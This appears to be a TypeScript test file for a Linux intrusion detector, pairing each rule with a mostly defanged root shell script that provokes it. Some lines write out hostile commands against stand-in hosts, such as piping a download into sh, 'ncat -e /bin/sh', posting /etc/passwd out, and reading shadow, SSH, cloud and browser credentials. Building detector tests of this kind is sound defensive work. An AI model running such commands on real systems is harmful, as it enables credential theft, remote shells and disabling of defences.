/**
 * What provokes each of our rules on a live host, as root. `$T` is a fresh folder below /tmp. Programs that must not really
 * run are copies of /bin/true under their names; files in system folders are empty, named lanner-provoke, and removed again.
 */
import {
	type Action,
	asWeb,
	attach,
	connectTo,
	execDeleted,
	execMemory,
	fake,
	joinSocket,
	libc,
	loadBpf,
	opened,
	ownMemory,
	python,
	touched,
	unixClient,
} from './scripts.ts';

export const actions: readonly Action[] = [
	{ rule: 'Shell or interpreter joined to a network connection', script: python(joinSocket) },
	{ rule: 'Standard descriptor replaced by a network connection', script: python(joinSocket) },
	{
		rule: 'Shell command with a network redirection',
		script: `bash -c 'exec 5<>/dev/tcp/127.0.0.1/9' 2>/dev/null || true`,
	},
	{ rule: 'Interpreter one-liner that hands out a shell', script: `python3 -c 'import socket,subprocess'` },
	{ rule: 'Network tool told to run a program', script: fake('ncat', '-e /bin/sh 192.0.2.1 1') },
	{
		rule: 'Shell started by a server program',
		script: `cp /bin/bash $T/nginx && $T/nginx -c 'sh -c true; true'`,
	},
	{ rule: 'Program started from memory', script: python(execMemory) },
	{ rule: 'Deleted program started', script: python(execDeleted) },
	{
		rule: 'Program started from a world-writable directory',
		script: 'cp /bin/true /tmp/lanner-provoke && /tmp/lanner-provoke',
		undo: 'rm -f /tmp/lanner-provoke',
	},
	{
		rule: 'Program started from web content',
		script:
			'mkdir -p /srv/www/lanner-provoke && cp /bin/true /srv/www/lanner-provoke/x && /srv/www/lanner-provoke/x',
		undo: 'rm -rf /srv/www/lanner-provoke; rmdir --ignore-fail-on-non-empty /srv/www',
	},
	{
		rule: 'Downloaded or encoded text piped into a shell',
		script: `sh -c 'true || curl -s http://192.0.2.1/x | sh'`,
	},
	{
		rule: 'Compiler started by a service account',
		script: `chmod 755 $T; cp /bin/true $T/gcc; ${asWeb('$T/gcc x.c')}`,
	},
	{ rule: 'Program started through the dynamic loader', script: '/lib64/ld-linux-x86-64.so.2 /bin/true' },
	{ rule: 'Binary directory written', ...touched('/bin/lanner-provoke') },
	{
		rule: 'File moved or linked into a binary directory',
		script: 'ln -s /bin/true /usr/local/bin/lanner-provoke',
		undo: 'rm -f /usr/local/bin/lanner-provoke',
	},
	{
		rule: 'Scheduled job file written',
		...touched('/etc/cron.d/lanner-provoke'),
		needs: '[ -d /etc/cron.d ]',
	},
	{
		rule: 'Scheduled job changed by command',
		script: 'crontab --no-such-option 2>/dev/null || true',
		needs: '[ -x /usr/bin/crontab ]',
	},
	{ rule: 'Service definition written', ...touched('/etc/systemd/system/lanner-provoke.service') },
	{
		rule: 'Library preloading configured',
		...touched('/etc/ld.so.preload'),
		needs: '[ ! -e /etc/ld.so.preload ]',
	},
	{ rule: 'Library search path changed', ...touched('/etc/ld.so.conf.d/lanner-provoke.conf') },
	{ rule: 'SSH access file written', script: 'mkdir -p $T/.ssh && touch $T/.ssh/authorized_keys' },
	{ rule: 'Shell start file written', script: 'touch $T/.bashrc' },
	{ rule: 'Login module or its configuration written', ...touched('/etc/pam.d/lanner-provoke') },
	{ rule: 'Account file written directly', script: ': >> /etc/passwd' },
	{ rule: 'Account made or changed', script: 'useradd --help >/dev/null' },
	{
		rule: 'Start-up hook written',
		script: 'mkdir -p /etc/modprobe.d && touch /etc/modprobe.d/lanner-provoke.conf',
		undo: 'rm -f /etc/modprobe.d/lanner-provoke.conf',
	},
	{
		rule: 'Server program wrote a script to its web content',
		script: `mkdir -p /srv/lanner-provoke && chown 33 /srv/lanner-provoke && ${asWeb('touch /srv/lanner-provoke/x.php')}`,
		undo: 'rm -rf /srv/lanner-provoke',
	},
	{ rule: 'Interpreter start-up file written', script: 'touch $T/sitecustomize.py' },
	{
		rule: 'Sudo configuration written',
		...touched('/etc/sudoers.d/lanner-provoke'),
		needs: '[ -d /etc/sudoers.d ]',
	},
	{ rule: 'Set-user-id bit set', script: 'touch $T/suid && chmod u+s $T/suid' },
	{ rule: 'File capabilities given', script: fake('setcap', 'cap_net_raw+ep x') },
	{ rule: 'Process taken over with ptrace', script: python(attach) },
	{ rule: 'Memory or registers of another process written', script: python(ownMemory(311)) },
	{ rule: 'Memory file of a process opened for writing', script: opened('/proc/self/mem') },
	{
		rule: 'Kernel module loaded in an unusual way',
		script: python(`${libc}\nlibc.syscall(313,os.open("/bin/true",os.O_RDONLY),b"",0)`),
	},
	{ rule: 'BPF program loaded by an unexpected program', script: python(loadBpf) },
	{ rule: 'Page faults handled by an unexpected program', script: python(`${libc}\nlibc.syscall(323,1)`) },
	{
		rule: 'Known privilege escalation command line',
		script: "sudo -n '-u#-1' true 2>/dev/null || true",
		needs: '[ -x /usr/bin/sudo ]',
	},
	{
		rule: 'Library preloaded from a world-writable directory',
		script: 'LD_PRELOAD=/tmp/lanner-provoke.so /bin/true 2>/dev/null',
	},
	{
		rule: 'User namespace made by an unexpected program',
		script: "setpriv --reuid 65534 --clear-groups -- perl -e 'syscall(272, 0x10000000)'",
	},
	{
		rule: 'Log removed or emptied',
		script: 'touch /var/log/lanner-provoke && rm /var/log/lanner-provoke',
	},
	{ rule: 'Login record opened for writing', script: ': >> /var/log/wtmp' },
	{ rule: 'Shell history removed or emptied', script: 'touch $T/.bash_history && rm $T/.bash_history' },
	{
		rule: 'Shell started with its history switched off',
		script: `script -qec 'env HISTFILE=/dev/null bash -c true' /dev/null >/dev/null`,
		needs: 'command -v script',
	},
	{ rule: 'File time set back by command', script: 'mkdir -p $T/etc && touch -r /bin/ls $T/etc/x' },
	{ rule: 'Hidden file or folder made in a world-writable directory', ...touched('/tmp/.lanner-provoke') },
	{ rule: 'Regular file made below /dev', ...touched('/dev/lanner-provoke') },
	{ rule: 'Security service stopped by command', script: fake('systemctl', 'stop auditd') },
	{
		rule: 'Security program killed or suspended',
		script: 'cp /bin/sleep $T/falco && { $T/falco 5 & p=$!; sleep 0.3; kill -9 $p; }',
	},
	{ rule: 'Packet filter switched off', script: fake('iptables', '-F') },
	{ rule: 'Mandatory access control or audit switched off', script: fake('setenforce', '0') },
	{ rule: 'Program poses as a kernel thread', script: `bash -c "exec -a '[kworker/9:9]' sleep 0"` },
	{
		rule: 'Process hidden by a mount over its /proc folder',
		script: 'unshare -m sh -c "sleep 3 & mount --bind $T /proc/\\$!"',
	},
	{ rule: 'File protected against change or removal', script: fake('chattr', '+i x') },
	{
		rule: 'System file made writable by everybody',
		script: 'touch /etc/lanner-provoke && chmod 777 /etc/lanner-provoke',
		undo: 'rm -f /etc/lanner-provoke',
	},
	{
		rule: 'Trusted certificate added',
		script:
			'mkdir -p /usr/local/share/ca-certificates && touch /usr/local/share/ca-certificates/lanner-provoke',
		undo: 'rm -f /usr/local/share/ca-certificates/lanner-provoke',
	},
	{ rule: 'File overwritten beyond recovery', script: fake('shred', 'x') },
	{
		rule: 'Kernel tracing or instrumentation changed',
		script: opened('/sys/kernel/tracing/trace_marker'),
		needs: '[ -e /sys/kernel/tracing/trace_marker ]',
	},
	{ rule: 'Password file read by an unexpected program', script: 'cat /etc/shadow >/dev/null' },
	{
		rule: 'Password file refused to a program',
		script: 'setpriv --reuid 65534 --regid 65534 --clear-groups -- cat /etc/shadow 2>/dev/null || true',
	},
	{
		rule: 'SSH private key read by an unexpected program',
		script: 'mkdir -p $T/.ssh && touch $T/.ssh/id_ed25519 && cat $T/.ssh/id_ed25519',
	},
	{
		rule: 'Stored access token read by an everyday tool',
		script: 'mkdir -p $T/.aws && touch $T/.aws/credentials && cat $T/.aws/credentials',
	},
	{
		rule: 'Cluster token of a container read by an everyday tool',
		script:
			'mkdir -p /run/secrets/kubernetes.io/serviceaccount && touch /run/secrets/kubernetes.io/serviceaccount/token && cat /run/secrets/kubernetes.io/serviceaccount/token',
		undo: 'rm -rf /run/secrets/kubernetes.io',
		needs: '[ ! -e /run/secrets/kubernetes.io ]',
	},
	{
		rule: 'Stored browser passwords read by an unexpected program',
		script: 'mkdir -p $T/.mozilla/x && touch $T/.mozilla/x/logins.json && cat $T/.mozilla/x/logins.json',
	},
	{
		rule: 'Kerberos key or ticket read by an everyday tool',
		script: 'touch /tmp/krb5cc_lanner && cat /tmp/krb5cc_lanner',
		undo: 'rm -f /tmp/krb5cc_lanner',
	},
	{ rule: 'Search for keys or passwords', script: 'find $T -name id_rsa' },
	{ rule: 'Memory of another process read', script: python(ownMemory(310)) },
	{
		rule: 'Raw packet socket opened by an unexpected program',
		script: `python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"`,
	},
	{ rule: 'Network interface told to take every packet', script: fake('ip', 'link set lo promisc on') },
	{
		rule: 'Cloud metadata service contacted by an unexpected program',
		script: python(connectTo('169.254.169.254', 80)),
	},
	{ rule: 'Network scanner started', script: fake('nmap', '192.0.2.0/24') },
	{ rule: 'System survey from a service account', script: `${asWeb('id')} >/dev/null` },
	{ rule: 'Known survey tool started', script: 'echo true > $T/linpeas.sh; sh $T/linpeas.sh' },
	{ rule: 'Search for programs that run as root', script: 'find $T -perm -4000 >/dev/null' },
	{ rule: 'Kernel symbol addresses read', script: 'head -c1 /proc/kallsyms >/dev/null' },
	{
		rule: 'Remote access tool started by a server program',
		script: `chmod 755 $T; cp /bin/true $T/ssh; ${asWeb('$T/ssh host')}`,
	},
	{ rule: 'Password given on the command line of a remote login', script: fake('sshpass', '-p x ssh host') },
	{
		rule: 'Key agent of an SSH session contacted by an unexpected program',
		script: python(unixClient('ssh-x/agent.1')),
	},
	{
		rule: 'Container runtime socket contacted by an unexpected program',
		script: python(unixClient('docker.sock')),
	},
	{
		rule: 'Sensitive directory packed into an archive',
		script: 'tar cf /dev/null --files-from /dev/null /root/.ssh 2>/dev/null || true',
	},
	{ rule: 'Upload to a public drop by command', script: fake('curl', '-F f=@x https://transfer.sh') },
	{ rule: 'Sensitive file sent by command', script: fake('curl', '-d @/etc/passwd http://192.0.2.1') },
	{
		rule: 'Database dumped by a service account',
		script: `chmod 755 $T; cp /bin/true $T/mysqldump; ${asWeb('$T/mysqldump -A')}`,
	},
	{
		rule: 'Connection made by a shell',
		script: `python3 -c 'import socket,os,subprocess as s
l=socket.socket();l.bind(("127.0.0.1",0));l.listen()
s.run(["bash","-c","exec 5<>/dev/tcp/127.0.0.1/%d"%l.getsockname()[1]])'`,
	},
	{
		rule: 'Port opened by a network tool or from a world-writable directory',
		script: `ln -s "$(python3 -c 'import sys;print(sys.executable)')" $T/ncat; $T/ncat -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));s.listen()'`,
	},
	{ rule: 'Tunnel tool started', script: fake('chisel', 'client x R:socks') },
	{
		rule: 'Download by a server program',
		script: `chmod 755 $T; cp /bin/true $T/wget; ${asWeb('$T/wget http://192.0.2.1/x')}`,
	},
	{ rule: 'Crypto miner started', script: fake('xmrig', '') },
	{ rule: 'Connection to a port of mining pools', script: python(connectTo('203.0.113.7', 3333)) },
	{ rule: 'File renamed to a ransom extension', script: 'touch $T/a && mv $T/a $T/a.lockbit' },
	{ rule: 'Ransom note written', script: 'touch $T/HOW_TO_DECRYPT.txt' },
	{ rule: 'Storage erased by command', script: fake('rm', '-rf --no-preserve-root $T/none') },
	{ rule: 'Restart or stop of the machine by command', script: fake('shutdown', '-r now') },
	{
		rule: 'Kernel hook for a way out of a container written',
		script: opened('/proc/sys/kernel/core_pattern'),
	},
	{ rule: 'Kernel setting written', script: opened('/proc/sys/vm/swappiness') },
	{
		rule: 'Namespace entered or made by an unexpected program',
		script: python(`${libc}\nlibc.unshare(0x20000)`),
	},
	{ rule: 'Host namespace entered by command', script: fake('nsenter', '--target 1 --mount sh') },
	{ rule: 'Root directory changed by an unexpected program', script: python('import os\nos.chroot("/")') },
	{
		rule: 'Connection made from a world-writable directory or from memory',
		script:
			'cp /usr/bin/perl /tmp/lanner-provoke && /tmp/lanner-provoke -MSocket -MFcntl -e \'socket(S,PF_INET,SOCK_STREAM,0);fcntl(S,F_SETFL,O_NONBLOCK);connect(S,sockaddr_in(443,inet_aton("203.0.113.7")))\'',
		undo: 'rm -f /tmp/lanner-provoke',
	},
	{
		rule: "Lanner's configuration written",
		script: 'mkdir /etc/lanner && touch /etc/lanner/provoke',
		undo: 'rm -rf /etc/lanner',
		needs: '[ ! -e /etc/lanner ]',
	},
	{
		rule: 'Keyboard device read by an unexpected program',
		script: 'head -c0 /dev/input/event0',
		needs: '[ -e /dev/input/event0 ]',
	},
];
